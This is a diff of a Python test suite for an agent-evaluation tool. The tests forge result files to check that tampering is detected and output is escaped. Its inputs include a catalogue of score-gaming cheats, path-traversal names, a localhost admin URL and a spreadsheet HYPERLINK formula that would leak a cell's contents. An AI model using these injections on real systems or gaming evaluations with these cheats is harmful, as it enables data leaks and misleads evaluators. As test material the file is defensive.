@@ -7,6 +7,7 @@ from __future__ import annotations
 
 import csv
 import json
+import lzma
 from collections.abc import Callable, Mapping
 from dataclasses import replace
 from html.parser import HTMLParser
@@ -15,15 +16,19 @@ from typing import Any
 
 import markdown
 import pytest
+from msgspec.structs import replace as replaced
 
 from turngym.agents import evaluate
 from turngym.agents.evaluation.packed import check_result, pack_result, packed, play_again
 from turngym.agents.evaluation.packed_file import PackedResult
 from turngym.agents.evaluation.rules import deviations
 from turngym.agents.evaluation.scores import EvaluationError, score
+from turngym.agents.play_spec import PlaySpec
 from turngym.agents.playing.scripted import ExpertAgent
+from turngym.agents.resolve_play import ENVIRONMENT
 from turngym.core.episode import Episode, Status
 from turngym.core.errors import TurngymError
+from turngym.core.spec import merged, read, to_table
 from turngym.core.tables import markup, visible
 from turngym.envs.base import ActingPlayer
 from turngym.scripts.main import main
@@ -50,12 +55,34 @@ def result(run: Path) -> PackedResult:
 Change = Callable[[PackedResult], PackedResult]
 
 
-def setting(**changes: Any) -> Change:
-    return lambda result: replace(result, settings={**result.settings, **changes})
+def setting(path: str, value: Any) -> Change:
+    """The setting at a dotted path becomes `value`, valid or not."""
+    return lambda result: replace(result, spec=put(result.spec, path.split("."), value))
+
+
+def put(value: Any, names: list[str], changed: Any) -> Any:
+    first, *rest = names
+    inner = put(getattr(value, first), rest, changed) if rest else changed
+    return replaced(value, **{first: inner})
 
 
 def make(**changes: Any) -> Change:
-    return lambda result: setting(make={**result.settings["make"], **changes})(result)
+    """Other arguments of gym.make."""
+
+    def changed(result: PackedResult) -> PackedResult:
+        for name, value in changes.items():
+            own = name in ENVIRONMENT
+            kwargs = {**result.spec.play.env_kwargs, name: value}
+            result = setting(*((f"play.env.{name}", value) if own else ("play.env_kwargs", kwargs)))(result)
+        return result
+
+    return changed
+
+
+def forge(result: PackedResult, path: Path) -> Path:
+    """Writes what our own program would not, as somebody else's may."""
+    path.write_bytes(lzma.compress("\n".join(result.lines()).encode("ascii")))
+    return path
 
 
 def each(change: Callable[[Episode], Episode]) -> Change:
@@ -63,7 +90,9 @@ def each(change: Callable[[Episode], Episode]) -> Change:
 
     def changed(result: PackedResult) -> PackedResult:
         episodes = tuple(map(change, result.episodes))
-        return replace(result, episodes=episodes, scores=json.loads(json.dumps(score(episodes).to_json())))
+        return replace(
+            result, episodes=episodes, scores=json.loads(json.dumps(score(episodes, result.spec.play).to_json()))
+        )
 
     return changed
 
@@ -86,16 +115,16 @@ def broken_off_but_valid(one: Episode) -> Episode:
 
 
 CHEATS: Mapping[str, tuple[Change, str]] = {
-    "another reward": (make(reward="sub_em"), 'settings: make.reward is "sub_em", not "em": what scores comes from'),
-    "formats that pay": (make(format_scores=[1.0, 1.0, 1.0]), "settings: make.format_scores is"),
-    "a class of one's own": (make(env_class="this:s"), "settings: make.env_class is"),
-    "an address": (make(retriever="http://127.0.0.1:1/admin"), "settings: make.retriever is"),
-    "a reranker": (make(rerank="this:s"), "settings: make.rerank is"),
-    "easier questions": (make(config="loops"), "settings: make.config is"),
-    "the training split": (make(split="train"), "settings: make.split is"),
-    "a corpus of answers": (make(corpus="answers.jsonl"), "settings: make.corpus is"),
-    "a choice that is no plain value": (make(topk={"a": 1}), "settings: make.topk is"),
-    "an argument that nobody knows": (make(cheat=True), "settings: make.cheat is"),
+    "another reward": (make(reward="sub_em"), 'settings: reward is "sub_em", not "em": what scores comes from'),
+    "formats that pay": (make(format_scores=[1.0, 1.0, 1.0]), "settings: format_scores is"),
+    "a class of one's own": (make(env_class="this:s"), "settings: env_class is"),
+    "an address": (make(retriever="http://127.0.0.1:1/admin"), "settings: retriever is"),
+    "a reranker": (make(rerank="this:s"), "settings: rerank is"),
+    "easier questions": (make(config="loops"), "settings: config is"),
+    "the training split": (make(split="train"), "settings: split is"),
+    "a corpus of answers": (make(corpus="answers.jsonl"), "settings: corpus is"),
+    "a choice that is no plain value": (make(topk={"a": 1}), "settings: topk.a is"),
+    "an argument that nobody knows": (make(cheat=True), "settings: cheat is"),
     "goals that were met": (each(lambda one: replace(one, meta={**one.meta, "goal_rate": 1.0})), "goal_rate is 1.0"),
     "one world instead of many": (
         each(lambda one: replace(one, task=replace(one.task, cluster="only"))),
@@ -116,17 +145,18 @@ def test_a_cheat_is_a_difference(kind: str, result: PackedResult, tmp_path: Path
 
 
 REFUSED = {
-    "tasks left out at the end": setting(limit=-95),
-    "no task": setting(limit=0),
-    "no sample": setting(samples=0),
-    "no turn": setting(max_turns=0),
+    "tasks left out at the end": ("limit", setting("play.tasks.sampling.limit", -95)),
+    "no task": ("limit", setting("play.tasks.sampling.limit", 0)),
+    "no sample": ("samples", setting("play.samples", 0)),
+    "no turn": ("max_turns", setting("play.env.max_turns", 0)),
 }
 
 
 @pytest.mark.parametrize("kind", REFUSED)
 def test_counts_are_counts(kind: str, result: PackedResult, tmp_path: Path) -> None:
-    path = REFUSED[kind](result).write(tmp_path / "a.result.xz")
-    with pytest.raises(EvaluationError, match="it must be at least 1"):
+    name, change = REFUSED[kind]
+    path = forge(change(result), tmp_path / "a.result.xz")
+    with pytest.raises(EvaluationError, match=rf"{name} is -?\d+; valid: "):
         check_result(path)
 
 
@@ -138,16 +168,16 @@ def test_a_file_without_a_seal_is_none(result: PackedResult, tmp_path: Path) -> 
 
     own = {name: getattr(result, name) for name in PackedResult.__dataclass_fields__}
     with pytest.raises(EvaluationError, match="its seal is ''"):
-        check_result(Unsealed(**own).write(tmp_path / "a.result.xz"))
+        check_result(forge(Unsealed(**own), tmp_path / "a.result.xz"))
 
 
 @pytest.mark.parametrize("name", ["this.x:y", "this:s", "../../secret", "/etc/hosts.json", "own-panel-v1"])
 def test_a_panel_that_a_file_names_comes_with_turngym(name: str, result: PackedResult, tmp_path: Path) -> None:
-    path = setting(panel=name)(result).write(tmp_path / "a.result.xz")
+    path = setting("play.tasks.panel", name)(result).write(tmp_path / "a.result.xz")
     with pytest.raises(TurngymError, match="does not come with turngym"):
         check_result(path)
     with pytest.raises(TurngymError, match="does not come with turngym"):
-        play_again(setting(panel=name)(result), "expert", workers=0, progress=False)
+        play_again(setting("play.tasks.panel", name)(result), "expert", workers=0, progress=False)
 
 
 def test_what_a_file_may_not_name_is_named_by_who_checks(result: PackedResult, tmp_path: Path) -> None:
@@ -185,7 +215,7 @@ def test_another_game_has_a_table_of_its_own(result: PackedResult) -> None:
     others = {
         "honest": result,
         "reward": make(reward="sub_em")(result),
-        "panel": setting(panel_sha256="0" * 64)(result),
+        "panel": setting("play.tasks.sha256", "0" * 64)(result),
         "told": make(topk=3, max_turns=20)(result),
     }
     found = {group.title: list(group.results) for group in grouped(others)}
@@ -206,11 +236,12 @@ def test_who_claims_a_preset_played_as_it_says(result: PackedResult) -> None:
 
     preset = find_preset("search-r1", "turngym/Search-v0")
     assert preset is not None
-    played = setting(**preset.identity, make=preset.make())(result)
-    assert deviations(played.settings) == ([], ["the first 5 of 100 tasks"])
-    claimed = deviations(setting(**preset.identity)(result).settings)[1]
+    play = read(PlaySpec, merged([to_table(result.spec.play), preset.table["play"]]), "a test")
+    as_it_says = replaced(result.spec, play=play)
+    played = setting("preset", "search-r1")(replace(result, spec=as_it_says))
+    assert deviations(played.spec) == ([], ["the first 5 of 100 tasks"])
+    claimed = deviations(setting("preset", "search-r1")(result).spec)[1]
     assert {"max_turns is 8, not 5", "topk is 1, not 3"} <= set(claimed)
-    assert deviations(setting(**{**preset.identity, "preset_sha256": "0"}, make=preset.make())(result).settings)[1][1:]
 
 
 def cheat(env: Any, options: Any) -> ExpertAgent:
@@ -272,7 +303,19 @@ class Seen(HTMLParser):
 
 
 Pages = tuple[Seen, Seen]
-PLAIN = setting(agent="me", preset="me", make={"tool_name": "me"})
+
+
+def named(where: str, text: str) -> Change:
+    """A text of the file at one of its places."""
+    if where == "version":
+        return lambda one: replace(one, versions={"turngym": text})
+    if where in ("agent", "date"):
+        return lambda one: replace(one, **{where: text})
+    return setting(where, text)
+
+
+def plain(result: PackedResult) -> PackedResult:
+    return named("play.env.tool_name", "me")(named("preset", "me")(named("agent", "me")(result)))
 
 
 def pages_of(result: PackedResult, folder: Path) -> Pages:
@@ -287,21 +330,16 @@ def pages_of(result: PackedResult, folder: Path) -> Pages:
 
 @pytest.fixture(scope="module")
 def plain_pages(result: PackedResult, tmp_path_factory: pytest.TempPathFactory) -> Pages:
-    return pages_of(PLAIN(result), tmp_path_factory.mktemp("plain"))
+    return pages_of(plain(result), tmp_path_factory.mktemp("plain"))
 
 
 @pytest.mark.parametrize("kind", TEXTS)
-@pytest.mark.parametrize("where", ["agent", "preset", "date", "version", "make"])
+@pytest.mark.parametrize("where", ["agent", "preset", "date", "version", "play.env.tool_name"])
 def test_a_text_of_a_file_is_text_on_every_page(
     kind: str, where: str, result: PackedResult, plain_pages: Pages, tmp_path: Path
 ) -> None:
     text = TEXTS[kind]
-    changes: dict[str, Change] = {
-        "date": lambda one: replace(one, date=text),
-        "version": lambda one: replace(one, versions={"turngym": text}),
-        "make": setting(make={"tool_name": text}),
-    }
-    evil = pages_of(changes.get(where, setting(**{where: text}))(PLAIN(result)), tmp_path)
+    evil = pages_of(named(where, text)(plain(result)), tmp_path)
     for harmless, found in zip(plain_pages, evil, strict=True):
         assert found.tags == harmless.tags
         # as it was written, in a cell or in the title of a group
@@ -319,7 +357,7 @@ def test_markup_shows_what_is_written() -> None:
 
 
 def test_no_field_is_a_formula(result: PackedResult, tmp_path: Path) -> None:
-    setting(agent='=HYPERLINK("http://127.0.0.1/"&A1)')(result).write(tmp_path / "a.result.xz")
+    named("agent", '=HYPERLINK("http://127.0.0.1/"&A1)')(result).write(tmp_path / "a.result.xz")
     assert main(["result", "table", str(tmp_path), "--out", str(tmp_path / "out")]) == 0
     with (tmp_path / "out" / "results.csv").open() as file:
         (row,) = csv.DictReader(file)
